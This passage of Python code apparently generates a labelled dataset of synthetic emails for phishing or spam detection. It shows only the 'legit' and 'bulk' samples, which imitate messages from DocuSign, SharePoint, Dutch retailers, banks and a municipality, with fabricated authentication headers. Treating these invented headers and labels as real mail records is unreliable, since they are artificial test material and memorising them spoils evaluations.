        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        sig=dkim("eumail.docusign.net", "mail", seed, signed="From:To:Reply-To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        core=[f"From: {addr('Vesteda via Docusign', 'dse@eumail.docusign.net')}", f"To: {addr('Lisa Vermeer', rcpt)}",
              f"Reply-To: {addr('Vesteda Verhuur', 'verhuur@vesteda.com')}",
              f"Subject: {enc('Voltooi met Docusign: Huurovereenkomst Spoorlaan 41-3 Tilburg')}", f"Date: {rfc_utc(when)}",
              f"Message-ID: <{hx(seed + 'ds', 32)}@docusign.net>", f"X-DocuSign-Envelope-Id: {env.upper()}"]),
        alt(seed, plain, html))
    add("clean", "legit", "docusign-huurovereenkomst", "Genuine DocuSign envelope from a housing company asking a tenant "
        "to sign a lease that she is expecting; same platform and layout as the abused DocuSign attack.", raw)


@msg
def l_sharepoint_echt():
    seed, when = "spo-echt", T(2025, 3, 27, 10, 44, 12)
    tenant = "bakkerijdekroon.nl"
    rcpt = f"info@{tenant}"
    share = f"https://vdbergaccountants.sharepoint.com/:x:/s/Klanten/E{alnum(seed + 'sp', 45)}?e={alnum(seed + 'e', 6)}"
    hop = Hop(ip="40.107.162.77", helo="EUR05-DB8-obe.outbound.protection.outlook.com", mailfrom="no-reply@sharepointonline.com",
              dkim_res="pass", dkim_d="sharepointonline.com", dkim_s="selector1", dmarc="pass", hfrom="sharepointonline.com",
              policy="reject")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>\n"
            "<table width=\"100%\" style=\"font-family:'Segoe UI',Tahoma,sans-serif;\"><tr><td style=\"padding:24px;\">\n"
            "<p style=\"font-size:21px;color:#333;\">Jeroen van den Berg heeft een bestand met u gedeeld</p>\n"
            "<p style=\"font-size:14px;color:#333;\">Hoi, kun je de kasstaten van Q1 hierin aanvullen? Dan maak ik de "
            "btw-aangifte klaar. Groet, Jeroen</p>\n"
            f"<table style=\"border:1px solid #e1e1e1;\"><tr><td style=\"padding:12px;font-size:14px;\">"
            f"<a href=\"{share}\" style=\"color:#0078d4;text-decoration:none;\">Kasstaten Q1 2025 - Bakkerij De Kroon.xlsx</a></td></tr></table>\n"
            f"<p><a href=\"{share}\" style=\"background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none;\">Openen</a></p>\n"
            "<p style=\"font-size:11px;color:#888;\">Microsoft respecteert uw privacy. Lees onze privacyverklaring: "
            "<a href=\"https://go.microsoft.com/fwlink/?LinkId=521839\">Privacyverklaring</a><br>Microsoft Corporation, "
            "One Microsoft Way, Redmond, WA 98052</p>\n</td></tr></table></body></html>\n")
    plain = ("Jeroen van den Berg heeft een bestand met u gedeeld\n\nHoi, kun je de kasstaten van Q1 hierin aanvullen? Dan "
             f"maak ik de btw-aangifte klaar. Groet, Jeroen\n\nKasstaten Q1 2025 - Bakkerij De Kroon.xlsx\n{share}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop,
        sig=dkim("sharepointonline.com", "selector1", seed, signed="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
        core=[f"From: {addr('Jeroen van den Berg', 'no-reply@sharepointonline.com')}", f"To: {rcpt}",
              f"Subject: {enc('Jeroen van den Berg heeft Kasstaten Q1 2025 - Bakkerij De Kroon.xlsx met u gedeeld')}",
              f"Date: {rfc_utc(when)}", f"Message-ID: <{guid(seed + 'spo')}@odspnotify>",
              f"X-Sharing-Request-Id: {guid(seed + 'req')}", "X-Sharing-Item-Type: File", "Content-Language: nl-NL"]),
        alt(seed, plain, html))
    add("clean", "legit", "sharepoint-kasstaten-accountant", "Genuine SharePoint share from the bakery's accountant (before "
        "his tenant was compromised): an Excel sheet for the Q1 VAT return, links stay on the accountant's sharepoint.com.", raw)


@msg
def l_marktplaats_bericht():
    seed, when = "mp-echt", T(2025, 4, 29, 19, 58, 3)
    rcpt = "k.mulder88@hotmail.com"
    hop = Hop(ip="185.58.192.21", helo="mx-out1.marktplaats.nl", mailfrom="noreply@berichten.marktplaats.nl",
              dkim_res="pass", dkim_d="marktplaats.nl", dkim_s="mp2", dmarc="pass", hfrom="marktplaats.nl", policy="reject")
    url = f"https://www.marktplaats.nl/messages/{alnum(seed + 'c', 24)}"
    plain = ("Je hebt een nieuw bericht van Joost over \"Gazelle Chamonix damesfiets 57 cm\"\n\n"
             "\"Hoi, is de fiets nog beschikbaar? Ik kan zaterdag langskomen in Amersfoort om hem te bekijken.\"\n\n"
             f"Beantwoord het bericht: {url}\n\nTip: spreek af om het artikel te bekijken en betaal bij ophalen. Klik nooit op "
             "betaallinks\ndie je via een bericht ontvangt.\n\nMarktplaats\n")
    html = html_doc(card(
        "<p>Je hebt een nieuw bericht van <b>Joost</b> over &quot;Gazelle Chamonix damesfiets 57 cm&quot;</p>"
        "<p style=\"background:#f4f4f4;padding:12px;\">&quot;Hoi, is de fiets nog beschikbaar? Ik kan zaterdag langskomen in "
        "Amersfoort om hem te bekijken.&quot;</p>" + button(url, "Beantwoord bericht", "#eda566", "#000000") +
        "<p style=\"font-size:12px;\">Tip: spreek af om het artikel te bekijken en betaal bij ophalen. Klik nooit op "
        "betaallinks die je via een bericht ontvangt.</p>",
        header='<img src="https://www.marktplaats.nl/email/logo-marktplaats.png" width="150" alt="Marktplaats">',
        footer="Marktplaats B.V., Wibautstraat 224, 1097 DN Amsterdam. <a href=\"https://www.marktplaats.nl/account/"
               "notifications\" style=\"color:#888;\">E-mailvoorkeuren</a>"), "Marktplaats")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop, sig=dkim("marktplaats.nl", "mp2", seed),
        core=[f"From: {addr('Marktplaats', 'noreply@marktplaats.nl')}", f"To: {rcpt}",
              f"Subject: {enc('Nieuw bericht over Gazelle Chamonix damesfiets 57 cm')}", f"Date: {rfc(when)}",
              f"Message-ID: <{guid(seed)}@marktplaats.nl>"]),
        alt(seed, plain, html))
    add("clean", "legit", "marktplaats-nieuw-bericht", "Genuine Marktplaats notification of a buyer's question about a "
        "bicycle, from marktplaats.nl with a link to the conversation and an anti-fraud tip.", raw)


@msg
def l_post_lu_facture():
    seed, when = "postlu-echt", T(2025, 10, 6, 8, 0, 14)
    rcpt = "m.schmit@pt.lu"
    hop = Hop(ip="194.154.192.131", helo="smtpout.post.lu", mailfrom="noreply@post.lu", dkim_res="pass", dkim_d="post.lu",
              dkim_s="postlu2022", dmarc="pass", hfrom="post.lu", policy="reject")
    url = "https://www.post.lu/fr/particuliers/espace-client"
    plain = ("Madame, Monsieur,\n\nVotre facture POST Telecom du mois d'octobre 2025 est disponible dans votre espace client.\n\n"
             "Montant : 64,90 EUR\nDomiciliation : le montant sera prélevé le 20/10/2025.\n\n"
             f"Consulter ma facture : {url}\n\nNous vous remercions de votre confiance.\nPOST Luxembourg\n")
    html = html_doc(card(
        "<p>Madame, Monsieur,</p><p>Votre facture POST Telecom du mois d&#39;octobre 2025 est disponible dans votre espace "
        "client.</p><p>Montant : <b>64,90&nbsp;EUR</b><br>Domiciliation : le montant sera pr&eacute;lev&eacute; le "
        "20/10/2025.</p>" + button(url, "Consulter ma facture", "#ffcc00", "#000000") +
        "<p>Nous vous remercions de votre confiance.<br>POST Luxembourg</p>",
        header='<img src="https://www.post.lu/documents/10181/0/logo-post.png" width="90" alt="POST">',
        footer="POST Luxembourg, 20 rue de Reims, L-2417 Luxembourg. Ceci est un message automatique."), "POST", "fr")
    raw = message(mailbox(
        seed=seed, when=when, provider="postlu", rcpt=rcpt, hop=hop, sig=dkim("post.lu", "postlu2022", seed),
        core=[f"From: {addr('POST Luxembourg', 'noreply@post.lu')}", f"To: {rcpt}",
              f"Subject: {enc('Votre facture POST Telecom est disponible')}", f"Date: {rfc(when)}",
              f"Message-ID: <{guid(seed)}@post.lu>"]),
        alt(seed, plain, html))
    add("clean", "legit", "post-lu-facture-telecom", "Genuine POST Luxembourg telecom invoice notice in French from "
        "post.lu (DMARC pass), paid by direct debit, link to the customer area on www.post.lu.", raw)


@msg
def l_kbc_kaart():
    seed, when = "kbc-echt", T(2024, 11, 28, 10, 31, 45)
    rcpt = "jef.wouters@telenet.be"
    hop = Hop(ip="193.191.214.61", helo="smtp-out.kbc.be", mailfrom="noreply@kbc.be", dkim_res="pass", dkim_d="kbc.be",
              dkim_s="kbc2024", dmarc="pass", hfrom="kbc.be", policy="reject")
    plain = ("Beste Jef,\n\nJe nieuwe KBC-debetkaart is onderweg en komt binnen 5 werkdagen met de post.\n"
             "Je pincode blijft dezelfde. Je oude kaart werkt nog tot het einde van de maand; knip hem daarna door\n"
             "de chip.\n\nDeze e-mail vraagt je nooit om in te loggen of gegevens door te geven. Meer info vind je in KBC Mobile\n"
             "onder 'Kaarten'.\n\nVriendelijke groeten,\nKBC\n")
    html = html_doc(card(
        "<p>Beste Jef,</p><p>Je nieuwe KBC-debetkaart is onderweg en komt binnen 5 werkdagen met de post. Je pincode blijft "
        "dezelfde. Je oude kaart werkt nog tot het einde van de maand; knip hem daarna door de chip.</p>"
        "<p>Deze e-mail vraagt je nooit om in te loggen of gegevens door te geven. Meer info vind je in KBC Mobile onder "
        "&#39;Kaarten&#39;.</p><p>Vriendelijke groeten,<br>KBC</p>",
        header='<img src="https://www.kbc.be/content/dam/kbc/logo/kbc-logo.png" width="80" alt="KBC">',
        footer="KBC Bank NV, Havenlaan 2, 1080 Brussel. BTW BE 0462.920.226."), "KBC")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop, sig=dkim("kbc.be", "kbc2024", seed),
        core=[f"From: {addr('KBC', 'noreply@kbc.be')}", f"To: {rcpt}", f"Subject: {enc('Je nieuwe bankkaart is onderweg')}",
              f"Date: {rfc(when)}", f"Message-ID: <{guid(seed)}@kbc.be>"]),
        alt(seed, plain, html))
    add("clean", "legit", "kbc-nieuwe-kaart", "Genuine KBC notice from kbc.be that a replacement debit card is in the "
        "post; no links and an explicit 'we never ask you to log in' line.", raw)


# ---------------------------------------------------------------------------
# legitimate: newsletters, marketing and list mail (bulk)
# ---------------------------------------------------------------------------

def mc_link(seed: str, account: str, dc: str, n: int) -> str:
    return (f"https://{account}.{dc}.list-manage.com/track/click?u={hx(seed + 'u', 25)}&amp;id={hx(seed + 'id' + str(n), 10)}"
            f"&amp;e={hx(seed + 'e', 10)}")


@msg
def b_mailchimp_voetbalclub():
    seed, when = "mc-club", T(2025, 8, 28, 19, 30, 5)
    rcpt = "tom.hendriks.nl@gmail.com"
    dom, acct, dc = "vv-oranjeboys.nl", "vvoranjeboys", "us21"
    mf = f"bounce-mc.{dc}_{digits(seed + 'a', 8)}.{digits(seed + 'b', 7)}-{hx(seed + 'c', 10)}@mail{digits(seed + 'd', 3)}.atl{digits(seed + 'e', 2)}1.rsgsv.net"
    hop = Hop(ip=f"198.2.{int(digits(seed + 'ip', 3)) % 60 + 128}.{int(digits(seed + 'ip2', 3)) % 250 + 2}",
              helo=f"mail{digits(seed + 'd', 3)}.atl{digits(seed + 'e', 2)}1.mcdlv.net", mailfrom=mf, dkim_res="pass",
              dkim_d=dom, dkim_s="k2", dmarc="pass", hfrom=dom, policy="none")
    links = [mc_link(seed, acct, dc, i) for i in range(5)]
    html = html_doc(card(
        "<h1 style=\"font-size:24px;color:#f57c00;\">Seizoen 2025-2026 is begonnen!</h1>"
        "<p>Beste leden, ouders en vrijwilligers,</p><p>Zaterdag 6 september spelen alle teams hun eerste competitiewedstrijd. "
        f"Het wedstrijdprogramma staat in de <a href=\"{links[0]}\">Voetbal.nl-app</a> en op de website.</p>"
        "<h2 style=\"font-size:18px;\">Vrijwilligers gezocht</h2><p>Voor de bardienst en het scheidsrechtersteam zoeken we "
        f"nog mensen. <a href=\"{links[1]}\">Schrijf je hier in</a>.</p>"
        "<h2 style=\"font-size:18px;\">Contributie</h2><p>De contributie wordt eind september ge&iuml;ncasseerd via de "
        "ledenadministratie (Sportlink). Een wijziging doorgeven kan bij de penningmeester.</p>"
        f"<p><a href=\"{links[2]}\"><img src=\"https://mcusercontent.com/{hx(seed + 'mu', 25)}/images/{guid(seed + 'img')}.jpg\" "
        "width=\"536\" alt=\"Teamfoto JO11-1\"></a></p><p>Sportieve groet,<br>Bestuur VV Oranje Boys</p>",
        footer=f"Copyright &copy; 2025 VV Oranje Boys, alle rechten voorbehouden.<br>Je ontvangt deze e-mail omdat je lid "
               f"bent van onze vereniging.<br><a href=\"{links[3]}\">Voorkeuren wijzigen</a> of "
               f"<a href=\"https://{acct}.{dc}.list-manage.com/unsubscribe?u={hx(seed + 'u', 25)}&amp;id={hx(seed + 'l', 10)}"
               f"&amp;e={hx(seed + 'e', 10)}&amp;c={hx(seed + 'cc', 10)}\">afmelden</a>."
               f"<img src=\"https://{acct}.{dc}.list-manage.com/track/open.php?u={hx(seed + 'u', 25)}&amp;id={hx(seed + 'o', 10)}"
               f"&amp;e={hx(seed + 'e', 10)}\" height=\"1\" width=\"1\">"), "Nieuwsbrief")
    plain = ("Seizoen 2025-2026 is begonnen!\n\nBeste leden, ouders en vrijwilligers,\n\nZaterdag 6 september spelen alle teams "
             "hun eerste competitiewedstrijd. Het wedstrijdprogramma staat in de Voetbal.nl-app en op de website.\n\n"
             "Vrijwilligers gezocht: voor de bardienst en het scheidsrechtersteam zoeken we nog mensen.\n\n"
             "Sportieve groet,\nBestuur VV Oranje Boys\n\n"
             f"Afmelden: https://{acct}.{dc}.list-manage.com/unsubscribe?u={hx(seed + 'u', 25)}&id={hx(seed + 'l', 10)}\n")
    unsub = (f"<https://{acct}.{dc}.list-manage.com/unsubscribe?u={hx(seed + 'u', 25)}&id={hx(seed + 'l', 10)}&t=b&e="
             f"{hx(seed + 'e', 10)}&c={hx(seed + 'cc', 10)}>,\n <mailto:unsubscribe-mc.{dc}_{hx(seed + 'u', 25)}."
             f"{hx(seed + 'cc', 10)}-{hx(seed + 'e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        hops=[f"Received: from localhost (localhost [127.0.0.1])\n\tby mail{digits(seed + 'd', 3)}.atl{digits(seed + 'e', 2)}"
              f"1.mcdlv.net (Mailchimp) with ESMTP id 4c{alnum(seed + 'lc', 10)}\n\tfor <{rcpt}>; {rfc_utc(when)}"],
        sig=headers(dkim(dom, "k2", seed, signed="Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:"
                         "\n\t List-Unsubscribe-Post:Content-Type:MIME-Version:CC:Date:To:Message-ID"),
                    dkim("mailchimpapp.net", "k2", seed + "mc", signed="Subject:From:Reply-To:To:Date:Message-ID:List-ID:"
                         "List-Unsubscribe:\n\t List-Unsubscribe-Post:Content-Type:MIME-Version")),
        core=[f"Subject: {enc('Nieuwsbrief september: seizoensstart, vrijwilligers en contributie')}",
              f"From: {addr('VV Oranje Boys', 'nieuwsbrief@' + dom)}", f"Reply-To: {addr('VV Oranje Boys', 'secretariaat@' + dom)}",
              f"To: {addr('Tom', rcpt)}", f"Date: {rfc_utc(when)}", f"Message-ID: <{hx(seed + 'mc', 24)}.{hx(seed + 'mc2', 20)}.{digits(seed + 'mc3', 8)}@mail{digits(seed + 'd', 3)}.atl{digits(seed + 'e', 2)}1.mcdlv.net>",
              f"X-Mailer: Mailchimp Mailer - **CID{hx(seed + 'cid', 10)}{hx(seed + 'e', 10)}**",
              f"X-Campaign: mailchimp{hx(seed + 'u', 25)}.{hx(seed + 'cid', 10)}", f"X-campaignid: mailchimp{hx(seed + 'u', 25)}.{hx(seed + 'cid', 10)}",
              f"X-Report-Abuse: Please report abuse for this campaign here:\n https://mailchimp.com/contact/abuse/?u={hx(seed + 'u', 25)}"
              f"&id={hx(seed + 'cid', 10)}&e={hx(seed + 'e', 10)}",
              f"X-MC-User: {hx(seed + 'u', 25)}", f"Feedback-ID: {digits(seed + 'f', 8)}:{digits(seed + 'f', 8)}.{digits(seed + 'f2', 7)}:{dc}:mc",
              f"List-ID: {digits(seed + 'l', 10)}{hx(seed + 'u', 25)}mc list <{hx(seed + 'u', 25)}.{digits(seed + 'l2', 6)}.list-id.mcsv.net>",
              "X-Accounttype: pd", f"List-Unsubscribe: {unsub}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]),
        alt(seed, plain, html, style="mc"))
    add("bulk", "bulk", "mailchimp-voetbalclub-nieuwsbrief", "A Dutch football club's September newsletter through "
        "Mailchimp (club's own DKIM, list-manage.com tracking links, List-Unsubscribe one-click).", raw)


@msg
def b_bol_nieuwsbrief():
    seed, when = "bol-news", T(2025, 11, 21, 6, 1, 44)
    rcpt = "pieter.claes77@gmail.com"
    mf = f"bounce-{digits(seed + 'b', 2)}_HTML-{digits(seed + 'b1', 9)}-{digits(seed + 'b2', 7)}-{digits(seed + 'b3', 6)}-0@bounce.mail.bol.com"
    hop = Hop(ip="13.111.58.96", helo="mta.mail.bol.com", mailfrom=mf, dkim_res="pass", dkim_d="mail.bol.com",
              dkim_s="200608", dmarc="pass", hfrom="mail.bol.com", policy="reject")
    t = [sfmc(seed, "click.mail.bol.com", i) for i in range(6)]
    html = html_doc(card(
        f"<p style=\"font-size:24px;font-weight:bold;color:#0000a4;\">Black Friday deals zijn begonnen</p>"
        f"<p>Tot 50% korting op elektronica, speelgoed en wonen. Alleen deze week.</p>"
        f"<table width=\"100%\"><tr><td><a href=\"{t[0]}\"><img src=\"https://image.mail.bol.com/lib/fe4a/m/1/bf25-elektronica.jpg\" "
        f"width=\"260\" alt=\"Elektronica\"></a></td><td><a href=\"{t[1]}\"><img src=\"https://image.mail.bol.com/lib/fe4a/m/1/"
        f"bf25-speelgoed.jpg\" width=\"260\" alt=\"Speelgoed\"></a></td></tr></table>"
        + button(t[2], "Bekijk alle deals", "#0000a4") +
        f"<p style=\"font-size:13px;\">Select-leden krijgen gratis verzending op alles. <a href=\"{t[3]}\">Meer over Select</a></p>",
        header=f'<a href="{t[4]}"><img src="https://image.mail.bol.com/lib/fe4a/m/1/bol-logo.png" width="64" alt="bol"></a>',
        footer=f"Je ontvangt deze e-mail omdat je je hebt aangemeld voor de nieuwsbrief van bol. "
               f"<a href=\"{t[5]}\">Afmelden</a>.<br>bol, Papendorpseweg 100, 3528 BJ Utrecht"
               f"<img src=\"https://click.mail.bol.com/open.aspx?ffcb10-{hx(seed + 'op', 40)}\" width=\"1\" height=\"1\">"), "bol")
    plain = ("Black Friday deals zijn begonnen\n\nTot 50% korting op elektronica, speelgoed en wonen. Alleen deze week.\n\n"
             f"Bekijk alle deals: {t[2]}\n\nAfmelden: {t[5]}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        sig=dkim("mail.bol.com", "200608", seed, signed="From:To:Subject:Date:MIME-Version:Content-Type:List-Unsubscribe:Message-ID"),
        core=[f"From: {addr('bol', 'nieuwsbrief@mail.bol.com')}", f"To: {rcpt}",
              f"Subject: {enc('🔥 Black Friday: tot 50% korting, alleen deze week')}", f"Date: {rfc(when)}",
              f"List-Unsubscribe: <{t[5].replace('?qs=', '?unsub=')}>, <mailto:leave-{hx(seed + 'lv', 40)}@leave.mail.bol.com>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"x-job: {digits(seed + 'j', 7)}_{digits(seed + 'j2', 6)}",
              f"Message-ID: <{guid(seed)}@xtnvmta.mail.bol.com>", "X-SFMC-Stack: 50"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "bol-black-friday", "Genuine bol Black Friday newsletter via Salesforce Marketing Cloud on "
        "mail.bol.com (DMARC pass), image blocks with click-tracking links and one-click unsubscribe.", raw)


@msg
def b_ah_bonus():
    seed, when = "ah-bonus-echt", T(2025, 3, 23, 18, 0, 31)
    rcpt = "an.dejong@live.nl"
    mf = f"bounce-{digits(seed + 'b', 2)}_HTML-{digits(seed + 'b1', 9)}-{digits(seed + 'b2', 7)}-{digits(seed + 'b3', 6)}-0@bounce.mail.ah.nl"
    hop = Hop(ip="13.111.49.71", helo="mta2.mail.ah.nl", mailfrom=mf, dkim_res="pass", dkim_d="mail.ah.nl", dkim_s="200608",
              dmarc="pass", hfrom="mail.ah.nl", policy="reject")
    t = [sfmc(seed, "click.mail.ah.nl", i) for i in range(5)]
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#00a0e2;\">Je persoonlijke bonus van deze week</p>"
        "<p>Hoi An, deze aanbiedingen hebben we voor je klaargezet op je Bonuskaart. Activeer ze in de app of op ah.nl.</p>"
        f"<table width=\"100%\"><tr><td><a href=\"{t[0]}\"><img src=\"https://image.mail.ah.nl/lib/fe8c/m/3/pb-koffie.png\" "
        f"width=\"170\" alt=\"25% korting op Douwe Egberts\"></a></td><td><a href=\"{t[1]}\"><img src=\"https://image.mail.ah.nl/"
        f"lib/fe8c/m/3/pb-kaas.png\" width=\"170\" alt=\"2e halve prijs kaas\"></a></td><td><a href=\"{t[2]}\">"
        "<img src=\"https://image.mail.ah.nl/lib/fe8c/m/3/pb-fruit.png\" width=\"170\" alt=\"Fruit 1+1 gratis\"></a></td></tr></table>"
        + button(t[3], "Activeer je bonus", "#00a0e2"),
        header='<img src="https://image.mail.ah.nl/lib/fe8c/m/3/ah-logo.png" width="48" alt="Albert Heijn">',
        footer=f"Je ontvangt deze mail omdat je Bonuskaart gekoppeld is aan je Mijn AH-account. <a href=\"{t[4]}\">Afmelden</a>"
               f"<br>Albert Heijn B.V., Provincialeweg 11, 1506 MA Zaandam"), "Albert Heijn")
    plain = ("Je persoonlijke bonus van deze week\n\nHoi An, deze aanbiedingen hebben we voor je klaargezet op je Bonuskaart.\n"
             f"Activeer ze in de app of op ah.nl: {t[3]}\n\nAfmelden: {t[4]}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop,
        sig=dkim("mail.ah.nl", "200608", seed, signed="From:To:Subject:Date:MIME-Version:Content-Type:List-Unsubscribe:Message-ID"),
        core=[f"From: {addr('Albert Heijn', 'nieuwsbrief@mail.ah.nl')}", f"To: {rcpt}",
              f"Subject: {enc('An, je persoonlijke bonus staat klaar')}", f"Date: {rfc(when)}",
              f"List-Unsubscribe: <mailto:leave-{hx(seed + 'lv', 40)}@leave.mail.ah.nl>",
              f"Message-ID: <{guid(seed)}@xtnvmta2.mail.ah.nl>", f"x-job: {digits(seed + 'j', 7)}_{digits(seed + 'j2', 6)}"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "ah-persoonlijke-bonus", "Genuine Albert Heijn personal-bonus mail from mail.ah.nl (DMARC pass), "
        "image tiles and tracked links, same brand as the image-only reward scam.", raw)


@msg
def b_kruidvat_deployteq():
    seed, when = "kruidvat", T(2024, 10, 7, 10, 15, 0)
    rcpt = "r.devries1968@ziggo.nl"
    hop = Hop(ip="185.75.84.212", helo="mail-out.deployteq.net", mailfrom=f"bounce-{hx(seed + 'b', 16)}@bounce.news.kruidvat.nl",
              dkim_res="pass", dkim_d="news.kruidvat.nl", dkim_s="dtq1", dmarc="pass", hfrom="news.kruidvat.nl", policy="reject")
    t = [f"https://news.kruidvat.nl/r/{alnum(seed + 'r' + str(i), 22)}" for i in range(4)]
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#e3001b;\">1+1 gratis op alle verzorging</p>"
        "<p>Deze week: 1+1 gratis op shampoo, douchegel en deodorant van alle merken. Ook online, met gratis bezorgen in de "
        "winkel.</p>" + button(t[0], "Shop de acties", "#e3001b") +
        f"<p><a href=\"{t[1]}\">Bekijk de folder</a> &middot; <a href=\"{t[2]}\">Vind je winkel</a></p>",
        header='<img src="https://news.kruidvat.nl/img/kruidvat-logo.png" width="130" alt="Kruidvat">',
        footer=f"Kruidvat, Nijborg 17, 3927 DA Renswoude. <a href=\"{t[3]}\">Uitschrijven</a>"
               f"<img src=\"https://news.kruidvat.nl/o/{alnum(seed + 'o', 30)}.gif\" width=\"1\" height=\"1\">"), "Kruidvat")
    plain = ("1+1 gratis op alle verzorging\n\nDeze week: 1+1 gratis op shampoo, douchegel en deodorant van alle merken.\n\n"
             f"Shop de acties: {t[0]}\nUitschrijven: {t[3]}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=hop, sig=dkim("news.kruidvat.nl", "dtq1", seed),
        core=[f"From: {addr('Kruidvat', 'nieuwsbrief@news.kruidvat.nl')}", f"To: {rcpt}",
              f"Subject: {enc('1+1 gratis op álle verzorging 🛁')}", f"Date: {rfc(when)}",
              f"Message-ID: <{hx(seed, 24)}@news.kruidvat.nl>", f"List-Unsubscribe: <{t[3]}>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Deployteq"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "kruidvat-actie-deployteq", "Kruidvat promotion newsletter sent through Deployteq on "
        "news.kruidvat.nl, tracked links on the same subdomain and one-click unsubscribe.", raw)


@msg
def b_ns_nieuwsbrief():
    seed, when = "ns-news", T(2025, 6, 12, 11, 0, 3)
    rcpt = "h.jansen@planet.nl"
    hop = Hop(ip="185.41.28.109", helo="mail-out.ns.nl", mailfrom=f"bounces@mailing.ns.nl", dkim_res="pass",
              dkim_d="mailing.ns.nl", dkim_s="ns1", dmarc="pass", hfrom="mailing.ns.nl", policy="reject")
    t = [f"https://mailing.ns.nl/c/{alnum(seed + 'c' + str(i), 26)}" for i in range(4)]
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#003082;\">Deze zomer met korting op pad</p>"
        "<p>Met het Dal Voordeel abonnement reis je buiten de spits met 40% korting. Neem tot 3 medereizigers mee met "
        "dezelfde korting.</p>" + button(t[0], "Meer over Dal Voordeel", "#ffc917", "#003082") +
        f"<p><b>Werkzaamheden</b><br>Let op: van 19 t/m 27 juli rijden er geen treinen tussen Utrecht en Amersfoort. "
        f"<a href=\"{t[1]}\">Plan je reis</a>.</p>",
        header='<img src="https://mailing.ns.nl/img/ns-logo.png" width="60" alt="NS">',
        footer=f"NS Reizigers B.V., Laan van Puntenburg 100, 3511 ER Utrecht. <a href=\"{t[3]}\">Afmelden</a>"), "NS")
    plain = ("Deze zomer met korting op pad\n\nMet het Dal Voordeel abonnement reis je buiten de spits met 40% korting.\n\n"
             f"Meer info: {t[0]}\n\nAfmelden: {t[3]}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop, sig=dkim("mailing.ns.nl", "ns1", seed),
        core=[f"From: {addr('NS', 'nieuwsbrief@mailing.ns.nl')}", f"To: {rcpt}",
              f"Subject: {enc('Deze zomer met 40% korting op pad')}", f"Date: {rfc(when)}",
              f"Message-ID: <{hx(seed, 30)}@mailing.ns.nl>", f"List-Unsubscribe: <{t[3]}>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "ns-zomer-nieuwsbrief", "NS summer newsletter (Dal Voordeel, planned works) from mailing.ns.nl "
        "with aligned DKIM and tracked links on the same domain.", raw)


@msg
def b_laposta_gemeente():
    seed, when = "laposta-gemeente", T(2025, 4, 17, 16, 30, 0)
    rcpt = "j.willems@hetnet.nl"
    hop = Hop(ip="185.70.55.52", helo="mail52.laposta-mail.nl", mailfrom=f"b-{hx(seed + 'b', 20)}@bounce.laposta-mail.nl",
              dkim_res="pass", dkim_d="oostvliet.nl", dkim_s="laposta", dmarc="pass", hfrom="oostvliet.nl", policy="quarantine")
    t = [f"https://clicks.laposta-mail.nl/c/{hx(seed + 'lc', 8)}/{alnum(seed + 'c' + str(i), 18)}" for i in range(4)]
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#006e3a;\">Nieuwsbrief Gemeente Oostvliet &ndash; april</p>"
        f"<h3>Koningsdag 2025</h3><p>Op zaterdag 26 april is er een vrijmarkt in het centrum. <a href=\"{t[0]}\">Bekijk de "
        "verkeersmaatregelen</a>.</p><h3>Grofvuil</h3><p>Vanaf 1 mei maakt u een afspraak voor het ophalen van grofvuil via "
        f"<a href=\"{t[1]}\">de website</a>.</p><h3>Inspraak omgevingsvisie</h3><p>Praat mee over de omgevingsvisie op "
        "woensdag 7 mei in het gemeentehuis.</p>",
        footer=f"U ontvangt deze nieuwsbrief omdat u zich heeft aangemeld via oostvliet.nl. <a href=\"{t[2]}\">Afmelden</a> "
               f"&middot; <a href=\"{t[3]}\">Bekijk online</a>"), "Nieuwsbrief")
    plain = ("Nieuwsbrief Gemeente Oostvliet - april\n\nKoningsdag 2025: op zaterdag 26 april is er een vrijmarkt in het "
             f"centrum.\nVerkeersmaatregelen: {t[0]}\n\nGrofvuil: vanaf 1 mei maakt u een afspraak via de website: {t[1]}\n\n"
             f"Afmelden: {t[2]}\n")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop,
        sig=headers(dkim("oostvliet.nl", "laposta", seed), dkim("laposta-mail.nl", "lp1", seed + "lp")),
        core=[f"From: {addr('Gemeente Oostvliet', 'nieuwsbrief@oostvliet.nl')}", f"To: {rcpt}",
              f"Subject: {enc('Nieuwsbrief april: Koningsdag, grofvuil en inspraak')}", f"Date: {rfc(when)}",
              f"Message-ID: <{hx(seed, 20)}@laposta-mail.nl>", f"List-Unsubscribe: <{t[2]}>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Laposta"]),
        alt(seed, plain, html))
    add("bulk", "bulk", "laposta-gemeente-nieuwsbrief", "A gemeente's citizen newsletter sent through Laposta, signed "
        "with the gemeente's own domain (DMARC pass), tracked links on Laposta's click domain.", raw)


@msg
